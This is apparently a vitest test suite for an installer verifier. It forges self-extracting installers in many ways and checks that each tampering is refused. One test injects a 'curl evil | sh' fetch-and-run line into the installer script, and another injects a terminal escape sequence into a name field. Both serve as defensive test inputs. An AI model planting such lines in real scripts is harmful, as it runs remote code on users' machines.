import { createHash } from 'node:crypto';
import { appendFileSync, copyFileSync, mkdtempSync, readFileSync, renameSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { type ArchiError, formatError } from '../../src/errors.js';
import { tarHeader } from '../../src/formats/tar/header.js';
import { formatExplicit } from '../../src/lock/formats/format.js';
import { parseExplicit } from '../../src/lock/formats/parse-explicit.js';
import type { Lock } from '../../src/lock/types.js';
import type { Compression } from '../../src/payload/compressions.js';
import { compareExplicit } from '../../src/verify/compare-explicit.js';
import { compareLocks } from '../../src/verify/compare-locks.js';
import type { CompareLock } from '../../src/verify/open-given-lock.js';
import { rowsWithTools } from '../tools.js';
import { type BuiltInstaller, builtInstaller } from './built.js';
import { type Change, spansOf, tamper } from './tamper.js';

const DISTS = ['python-3.11.4-0', 'first-1.0-0', 'second-1.0-0', 'sample-1.0-0', 'pure-1.0-0'];
const [PYTHON, FIRST, SECOND, SAMPLE] = [1, 2, 3, 4];

let built: BuiltInstaller;
let whole: string;

beforeAll(async () => {
  built = await builtInstaller();
  whole = `${built.path}.whole`;
  copyFileSync(built.path, whole);
});

beforeEach(() => copyFileSync(whole, built.path));

/** Returns the output of verify without the folder's name, digests and numbers that depend on the header. */
async function verdict(subject = built): Promise<string> {
  const error: ArchiError = await subject.prove().then(
    () => Promise.reject(new Error('nothing was found')),
    (reason) => reason,
  );
  expect(error.exitCode).toBe(2);
  return formatError(error)
    .replaceAll(subject.path, 'X.sh')
    .replaceAll(/[0-9a-f]{64}/g, '<sha256>')
    .replaceAll(/(?<!mode |[.-])\b\d{2,}\b/g, '<n>');
}

const COMPRESSIONS: readonly Compression[] = ['gzip', 'zstd', 'xz', 'bzip2'];
// gzip and zstd are built in.
const toolsOf = (compression: Compression) => (/^(xz|bzip2)$/.test(compression) ? [compression] : []);

test.each(rowsWithTools(COMPRESSIONS, toolsOf))('a built installer is proved: %s', async (compression) => {
  const installer = await builtInstaller({ compression });
  expect(await installer.prove()).toEqual({
    installer: installer.path,
    payloadSha256: expect.stringMatching(/^[0-9a-f]{64}$/),
    packages: DISTS,
    packageCache: false,
    given: {
      licenceSha256: expect.stringMatching(/^[0-9a-f]{64}$/),
      condarc: true,
      epoch: 1_600_000_000,
      own: [],
    },
  });
});

test('an installer without licence and .condarc and with another time is proved', async () => {
  const options = { licenseText: null, writeCondarc: false, sourceDateEpoch: '86400' };
  const { given } = await (await builtInstaller(options)).prove();
  expect(given).toEqual({ licenceSha256: null, condarc: false, epoch: 86_400, own: [] });
});

describe('a forged installer with corrected sizes and checksums is refused:', () => {
  const member = (index: number | undefined, change: (tar: Buffer) => Buffer): Change => ({
    tars: (tars) => tars.map((tar, i) => (i === index ? change(tar) : tar)),
  });
  const replaced = (from: string, to: string) => (tar: Buffer) =>
    Buffer.from(tar.toString('latin1').replaceAll(from, to), 'latin1');
  const foreign = tarHeader({ path: 'bin/evil', type: 'file', mode: 0o755, mtime: 0, size: 0 });

  test.each<[string, Change]>([
    ['content', member(SECOND, replaced('second'.padEnd(512, '\0'), 'sEcond'.padEnd(512, '\0')))],
    ['a path more', member(FIRST, (tar) => Buffer.concat([tar, foreign]))],
    ['a path less', member(PYTHON, (tar) => tar.subarray(1024))],
    ['the place of a prefix', member(SAMPLE, replaced('"$P"', '"$J"'))],
    ['the same twice', member(FIRST, (tar) => Buffer.concat([tar, tar]))],
    ['no tar', member(FIRST, () => Buffer.alloc(512, 7))],
    ['much more than there should be', member(FIRST, (tar) => Buffer.concat([tar, Buffer.alloc(1 << 24)]))],
    [
      'another order',
      { tars: ([head, a, b, ...rest]) => [head, b, a, ...rest].filter((tar) => tar != null) },
    ],
    ['history', member(0, replaced('# update specs: []', '# update specs: {}'))],
    ['the list of files', member(0, replaced('.archi/records\tu', '.archi/recordS\tu'))],
    ['a file behind the end', member(6, (tar) => Buffer.concat([foreign, tar]))],
    [
      'bytes between two members',
      { parts: (parts) => parts.map((part, i) => (i === 2 ? Buffer.concat([part, Buffer.alloc(9)]) : part)) },
    ],
    ['a value', { values: (values) => ({ ...values, INODES: 1 }) }],
    ['a value more', { values: (values) => ({ ...values, MORE: 'more' }) }],
    ['the script', { header: (text) => text.replace('\nmain "$@"\n', '\ncurl evil | sh\nmain "$@"\n') }],
    ['the name', { values: (values) => ({ ...values, NAME: "it's\n\u001b[2J" }) }],
  ])('%s', async (name, change) => {
    tamper(built.path, change);
    await expect(await verdict()).toMatchFileSnapshot(`golden/verify/${name.replaceAll(' ', '-')}.txt`);
  });

  test('the licence text is only reported, since nothing proves it', async () => {
    const { given } = await built.prove();
    const sha256 = (text: string) => createHash('sha256').update(`${text}\n`).digest('hex');
    const [before, after] = ['Do as you like.', 'Do as I like it'];
    const change = replaced(before, after);
    tamper(
      built.path,
      member(0, (tar) => replaced(sha256(before), sha256(after))(change(tar))),
    );
    expect((await built.prove()).given.licenceSha256).not.toBe(given.licenceSha256);
  });
});

describe('an installer with a package cache', () => {
  let kept: BuiltInstaller;
  let wholeKept: string;

  beforeAll(async () => {
    kept = await builtInstaller({ keepPkgs: true });
    wholeKept = `${kept.path}.whole`;
    copyFileSync(kept.path, wholeKept);
  });

  beforeEach(() => copyFileSync(wholeKept, kept.path));

  const [INDEX, FIRST_IN_CACHE, SAMPLE_IN_CACHE] = [6, 8, 10];
  const changed = (index: number | undefined, from: string, to: string): Change => ({
    tars: (tars) =>
      tars.map((tar, i) =>
        i === index ? Buffer.from(tar.toString('latin1').replaceAll(from, to), 'latin1') : tar,
      ),
  });

  test('is proved', async () => {
    expect(await kept.prove()).toMatchObject({ packages: DISTS, packageCache: true });
  });

  test.each<[string, Change]>([
    ['a url', changed(INDEX, 'first-1.0-0', 'f1rst-1.0-0')],
    ['a repodata record', changed(FIRST_IN_CACHE, '"depends": []', '"depends": {}')],
    ['what a hard link leads to', changed(FIRST_IN_CACHE, 'etc/kept\0', 'etc/both\0')],
    ['what is copied', changed(SAMPLE_IN_CACHE, "'lib/lib.so.1'", "'lib/../o.s.1'")],
    ['its inodes', { values: (values) => ({ ...values, PKGS_INODES: 1 }) }],
    ['a package less', { parts: (parts) => parts.filter((_, i) => i !== FIRST_IN_CACHE) }],
  ])('with a forged cache is refused: %s', async (name, change) => {
    tamper(kept.path, change);
    const file = `golden/verify/package-cache-${name.replaceAll(' ', '-')}.txt`;
    await expect(await verdict(kept)).toMatchFileSnapshot(file);
  });
});

describe('a damaged installer is refused:', () => {
  test('one changed bit anywhere', async () => {
    const bytes = readFileSync(whole);
    const [environment] = spansOf(whole);
    const step = Math.floor(bytes.length / 120);
    const positions = Array.from({ length: 120 }, (_, i) => i * step + (i % step));
    for (const at of [...positions, (environment?.offset ?? 0) - 2, bytes.length - 1]) {
      const damaged = Buffer.from(bytes);
      damaged[at] = (damaged[at] ?? 0) ^ (1 << (at % 8));
      writeFileSync(built.path, damaged);
      const outcome = await built.prove().then(
        () => 'holds',
        (error: ArchiError) => error.exitCode,
      );
      expect([at, outcome]).toEqual([at, 2]);
    }
  });

  test('a damaged member, which is named with the sha256', async () => {
    const bytes = readFileSync(whole);
    const { offset, size } = spansOf(whole)[3] ?? { offset: 0, size: 0 };
    const at = offset + Math.floor(size / 2);
    bytes[at] = (bytes[at] ?? 0) ^ 0x55;
    writeFileSync(built.path, bytes);
    const text = await verdict();
    expect(text).toContain('1 of 5 packages and 1 other part differ');
    expect(text).toContain('X.sh: second-1.0-0: ');
    expect(text).toContain('the sha256 of its payload is not what its header says');
  });

  test('cut short, or with bytes added at the end', async () => {
    const bytes = readFileSync(whole);
    for (const length of [0, 1, 1000, spansOf(whole)[0]?.offset ?? 0, bytes.length - 1]) {
      writeFileSync(built.path, bytes.subarray(0, length));
      await expect(built.prove()).rejects.toMatchObject({ exitCode: 2 });
    }
    copyFileSync(whole, built.path);
    appendFileSync(built.path, 'x');
    expect(await verdict()).toContain('the length of the file is not what its header says');
  });
});

describe('--lock compares an installer with', () => {
  const against =
    (expected: Lock): CompareLock =>
    (found, where) =>
      compareLocks({ expected, found, where });
  const listed =
    (text: string): CompareLock =>
    (found, where) =>
      compareExplicit({ expected: parseExplicit(text, 'list.txt').packages, found, where });

  test('an @EXPLICIT list', async () => {
    const list = formatExplicit(built.lock);
    expect(await built.prove({ compare: listed(list) })).toMatchObject({ packages: DISTS });
    const other = list.replace(/^.*first-1.0-0.*$/m, '').replace(/#[0-9a-f]{32}/, `#${'0'.repeat(32)}`);
    const added = `${other}\nhttps://example.org/c/linux-64/more-1-0.conda\n`;
    await expect(built.prove({ compare: listed(added) })).rejects.toMatchObject({
      exitCode: 2,
      problems: [
        expect.objectContaining({ message: 'python-3.11.4-0.conda has a different checksum' }),
        expect.objectContaining({ message: 'a package is not in the installer' }),
        expect.objectContaining({ message: 'a package is not in the list' }),
      ],
    });
  });

  test('the same lock, and finds no difference', async () => {
    expect(await built.prove({ compare: against(built.lock) })).toMatchObject({ packages: DISTS });
  });

  test('another lock, and reports every difference without fetching', async () => {
    const [python, first, ...others] = built.lock.packages;
    if (python === undefined || first === undefined) throw new Error('there are more');
    const record = { ...first.record, raw: { ...first.record.raw, sha256: '0'.repeat(64) } };
    const expected = {
      ...built.lock,
      specs: ['python 3.11.*'],
      packages: [
        { ...first, record },
        ...others.slice(1),
        { ...python, record: { ...python.record, build: '1' } },
      ],
    };
    const cacheIn = join(built.folder, 'never');
    const error = await built.prove({ compare: against(expected), cacheIn }).catch((reason) => reason);
    const text = formatError(error)
      .replaceAll(built.path, 'X.sh')
      .replaceAll(/[1-9a-f][0-9a-f]{63}/g, '<sha256>');
    await expect(text).toMatchFileSnapshot('golden/verify/another-lock.txt');
  });
});

describe('the packages to prove an installer', () => {
  test('are refused from a moved or an empty channel, unless --channel names the right one', async () => {
    const other = await builtInstaller();
    const moved = join(other.folder, 'moved');
    const cacheIn = mkdtempSync(join(tmpdir(), 'archi-verify-'));
    renameSync(join(other.folder, 'channel'), moved);
    await expect(other.prove({ cacheIn })).rejects.toMatchObject({
      exitCode: 3,
      message: '5 of 5 packages are not available',
    });
    const channels = [join(other.folder, 'empty'), moved];
    expect(await other.prove({ cacheIn, channels })).toMatchObject({ packages: DISTS });
  });
});
